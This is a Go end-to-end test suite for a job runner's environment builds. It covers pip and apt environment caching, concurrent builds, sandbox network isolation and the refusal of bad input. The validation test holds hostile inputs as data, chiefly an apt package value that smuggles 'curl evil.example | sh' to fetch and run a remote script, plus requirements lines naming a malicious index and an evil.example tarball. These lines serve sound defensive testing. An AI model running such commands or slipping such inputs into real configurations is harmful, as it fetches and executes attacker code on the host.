package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ferry-hpc/ferry/pkg/env/envtest"
	"github.com/ferry-hpc/ferry/pkg/job"
)

// wheelhouse is the harness's environments.pip_find_links (tests/cluster.sh).
const wheelhouse = "/var/lib/ferry/wheelhouse"

// envMain is a job that imports a package from the wheelhouse (which
// imports its dependency), one from Debian (apt: python3-six), and tries
// the network.
const envMain = `import socket
import ferrydemo, six
print(ferrydemo.hello(), "and six", six.__version__)
try:
    socket.create_connection(("151.101.2.132", 80), timeout=3).close()
    print("network: REACHABLE")
except OSError as e:
    print("network: none (%s)" % type(e).__name__)
`

// Environments end to end on the real agents, Docker and Slurm: a job with
// requirements.txt (from a wheelhouse the test writes) and an apt package
// runs in an environment built once, later jobs reuse it, a changed
// requirement builds another, 20 jobs at once build it once, the sandbox
// still has no network, and bad input is refused with a sentence.
func TestEnvironments(t *testing.T) {
	a := lookup(t, alice)
	// A version of our own each run: the first job really builds.
	v := fmt.Sprintf("1.0.%d", time.Now().Unix())
	envtest.WriteWheel(t, wheelhouse, "ferrydep", "1.0", map[string]string{"ferrydep/__init__.py": "WHO = 'ferrydep 1.0'\n"})
	envtest.WriteWheel(t, wheelhouse, "ferrydemo", v, map[string]string{"ferrydemo/__init__.py": fmt.Sprintf(
		"from ferrydep import WHO\n__version__ = %q\ndef hello():\n    return 'ferrydemo ' + __version__ + ' uses ' + WHO\n", v)},
		"ferrydep>=1.0")
	var keys []string
	t.Cleanup(func() {
		os.Remove(filepath.Join(wheelhouse, "ferrydemo-"+v+"-py3-none-any.whl"))
		slices.Sort(keys)
		for _, k := range slices.Compact(keys) {
			if out, err := exec.Command(ferrydBin, "env", "rm", k).CombinedOutput(); err != nil {
				t.Logf("ferryd env rm %s: %v: %s", k, err, out)
			}
		}
	})

	dir := workdir(t, a)
	mk := func(name, reqs, jobYAML string) string {
		p := filepath.Join(dir, name)
		require.NoError(t, os.MkdirAll(p, 0o755))
		files := map[string]string{"main.py": envMain, "requirements.txt": reqs, "job.yaml": jobYAML}
		for f, c := range files {
			require.NoError(t, os.WriteFile(filepath.Join(p, f), []byte(c), 0o644))
		}
		require.NoError(t, os.Chown(p, a.UID, a.GID))
		for f := range files {
			require.NoError(t, os.Chown(filepath.Join(p, f), a.UID, a.GID))
		}
		return p
	}
	run := func(proj string) (submitted, *job.Result, string) {
		t.Helper()
		s := submit(t, a, dir, proj)
		st := waitState(t, a, s.ID, 5*time.Minute, func(st job.Status) bool { return st.State.Terminal() })
		logs := ferry(t, a, dir, "logs", s.ID)
		require.Equal(t, job.Succeeded, st.State, "%s: %s\n%s", s.ID, st.Reason, logs.Out)
		res := readResult(t, s.Dir)
		keys = append(keys, res.Environment)
		return s, res, logs.Out
	}
	const jobYAML = "command: python3 main.py\napt: [python3-six]\n"

	// The first job builds its environment; the sandbox has no network.
	first := mk("first", "ferrydemo=="+v+"\n", jobYAML)
	s1, r1, log1 := run(first)
	assert.Contains(t, log1, "building environment ")
	assert.Contains(t, log1, "(pip: 1 package, apt: 1 package)")
	assert.Contains(t, log1, "ferrydemo "+v+" uses ferrydep 1.0 and six ")
	assert.Contains(t, log1, "network: none (")
	assert.Regexp(t, `build network: [a-z0-9.-]+:80 only, through ferry's egress proxy\n`, log1,
		"the build reaches the Debian mirror through ferry's proxy, and nothing else (the wheelhouse needs no network)")
	require.NotEmpty(t, r1.Environment, "result.json names the environment")
	id, err := exec.Command("docker", "image", "inspect", "-f", "{{.Id}}", "ferry/env:"+r1.Environment).Output()
	require.NoError(t, err, "the environment's image ferry/env:%s", r1.Environment)
	assert.Equal(t, strings.TrimSpace(string(id)), r1.ImageDigest, "result.json names the image the job ran in")
	st := ferry(t, a, dir, "status", s1.ID)
	assert.Contains(t, st.Out, "env:       pip: 1 package, apt: 1 package; "+r1.Environment[:12]+" (image "+r1.ImageDigest+")")
	build := r1.Started.Sub(r1.BatchStart)

	// The same requirements again: no build, the same environment.
	_, r2, log2 := run(mk("again", "ferrydemo=="+v+"\n", jobYAML))
	assert.NotContains(t, log2, "building environment")
	assert.NotContains(t, log2, "waiting for environment")
	assert.Equal(t, r1.Environment, r2.Environment)
	assert.Equal(t, r1.ImageDigest, r2.ImageDigest)

	// A changed requirement: another environment.
	_, r3, log3 := run(mk("changed", "ferrydemo=="+v+"\nferrydep==1.0\n", jobYAML))
	assert.Contains(t, log3, "building environment ")
	assert.NotEqual(t, r1.Environment, r3.Environment)

	// 20 jobs at once with requirements nobody asked for yet: one build.
	crowd := mk("crowd", "ferrydep==1.0\nferrydemo>="+v+"\n", jobYAML)
	var ids []submitted
	for i := 0; i < 20; i++ {
		ids = append(ids, submit(t, a, dir, crowd, "--name", fmt.Sprintf("crowd-%d", i)))
	}
	builds, waits := 0, 0
	var crowdKey string
	for _, s := range ids {
		st := waitState(t, a, s.ID, 5*time.Minute, func(st job.Status) bool { return st.State.Terminal() })
		out := ferry(t, a, dir, "logs", s.ID).Out
		require.Equal(t, job.Succeeded, st.State, "%s: %s\n%s", s.ID, st.Reason, out)
		builds += strings.Count(out, "building environment ")
		waits += strings.Count(out, "waiting for environment ")
		res := readResult(t, s.Dir)
		if crowdKey == "" {
			crowdKey = res.Environment
			keys = append(keys, crowdKey)
		}
		assert.Equal(t, crowdKey, res.Environment, "every job of the crowd ran in the one environment")
	}
	assert.Equal(t, 1, builds, "20 jobs at once, one build (two agents on this host share the lock)")
	t.Logf("the crowd: 1 build, %d job(s) said they waited for it", waits)

	// The same job in the plain sandbox and in a cached environment: what
	// the environment adds to the start (`ferry sandbox run` to container
	// start, from result.json).
	plain := filepath.Join(dir, "plain")
	require.NoError(t, os.MkdirAll(plain, 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(plain, "job.yaml"), []byte("command: [python3, -c, 'print(1)']\n"), 0o644))
	require.NoError(t, os.Chown(plain, a.UID, a.GID))
	cached := mk("cached", "ferrydemo=="+v+"\n", "command: [python3, -c, 'print(1)']\napt: [python3-six]\n")
	var plainStart, envStart []time.Duration
	for i := 0; i < 5; i++ {
		for _, p := range []string{plain, cached} {
			s := submit(t, a, dir, p)
			st := waitState(t, a, s.ID, 2*time.Minute, func(st job.Status) bool { return st.State.Terminal() })
			require.Equal(t, job.Succeeded, st.State, st.Reason)
			res := readResult(t, s.Dir)
			if p == plain {
				plainStart = append(plainStart, res.Started.Sub(res.BatchStart))
			} else {
				require.Equal(t, r1.Environment, res.Environment)
				envStart = append(envStart, res.Started.Sub(res.BatchStart))
			}
		}
	}
	slices.Sort(plainStart)
	slices.Sort(envStart)
	fmt.Printf("BENCH environments: first build (pip: 1 package + its dependency from a wheelhouse, apt: python3-six) %.1f s from the job's start to its container's; "+
		"container start with a cached environment p50 %d ms vs the plain sandbox p50 %d ms (+%d ms; target within 50 ms), 5 jobs each\n",
		build.Seconds(), envStart[2].Milliseconds(), plainStart[2].Milliseconds(), (envStart[2] - plainStart[2]).Milliseconds())
}

// A requirement that does not exist fails the job with the build's last
// lines; the next job asking for it is answered from the failure record,
// not built again.
func TestEnvironmentBuildFails(t *testing.T) {
	a := lookup(t, alice)
	dir := workdir(t, a)
	p := filepath.Join(dir, "broken")
	require.NoError(t, os.MkdirAll(p, 0o755))
	// A name of this run's own, so that no earlier run's record answers.
	missing := fmt.Sprintf("ferry-no-such-package-%d", time.Now().UnixNano())
	require.NoError(t, os.WriteFile(filepath.Join(p, "requirements.txt"), []byte(missing+"\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(p, "job.yaml"), []byte("command: [python3, -c, 'print(1)']\n"), 0o644))
	require.NoError(t, os.Chown(p, a.UID, a.GID))
	var logs []string
	for i := 0; i < 2; i++ {
		s := submit(t, a, dir, p)
		st := waitState(t, a, s.ID, 3*time.Minute, func(st job.Status) bool { return st.State.Terminal() })
		out := ferry(t, a, dir, "logs", s.ID).Out
		require.Equal(t, job.Failed, st.State, out)
		assert.Contains(t, st.Reason, "failed to build: ", "the reason")
		assert.Contains(t, st.Reason, "(the build's last lines are in the log)")
		assert.NotContains(t, st.Reason, "\n", "one line")
		assert.Contains(t, out, "No matching distribution found for "+missing, "pip's own words, in the log")
		logs = append(logs, out)
	}
	assert.Contains(t, logs[0], "building environment ")
	assert.NotContains(t, logs[1], "building environment ", "answered from the failure record")
	assert.Contains(t, logs[1], "not trying again before ")
}

// Bad environments are refused at submit, in one line, exit code 2.
func TestEnvironmentBadInput(t *testing.T) {
	a := lookup(t, alice)
	dir := workdir(t, a)
	for _, c := range []struct{ name, reqs, jobYAML, want string }{
		{"another index", "numpy\n--index-url https://evil.example/simple\n", "command: 'true'\n",
			`requirements.txt line 2: option "--index-url" is not allowed`},
		{"a URL", "ferrydemo @ https://evil.example/ferrydemo-1.0.tar.gz\n", "command: 'true'\n",
			"requirements.txt line 1: "},
		{"apt with shell metacharacters", "", "command: 'true'\napt: ['six; curl evil.example | sh']\n",
			`apt: apt package "six; curl evil.example | sh": shell metacharacters and spaces are not allowed`},
		{"a base image off the allowlist", "numpy\n", "command: 'true'\nimage: evil/img:1\n",
			`image "evil/img:1" is not allowed`},
	} {
		t.Run(c.name, func(t *testing.T) {
			p := filepath.Join(dir, strings.ReplaceAll(c.name, " ", "-"))
			require.NoError(t, os.MkdirAll(p, 0o755))
			require.NoError(t, os.WriteFile(filepath.Join(p, "job.yaml"), []byte(c.jobYAML), 0o644))
			if c.reqs != "" {
				require.NoError(t, os.WriteFile(filepath.Join(p, "requirements.txt"), []byte(c.reqs), 0o644))
			}
			require.NoError(t, os.Chown(p, a.UID, a.GID))
			before := spoolEntries(t, a)
			r := ferry(t, a, dir, "submit", p)
			assert.Equal(t, 2, r.Code, r.String())
			assert.Contains(t, r.Err, c.want)
			assert.Equal(t, 1, strings.Count(strings.TrimSpace(r.Err), "\n")+1, "one line: %q", r.Err)
			assert.Equal(t, before, spoolEntries(t, a), "nothing written")
		})
	}
}
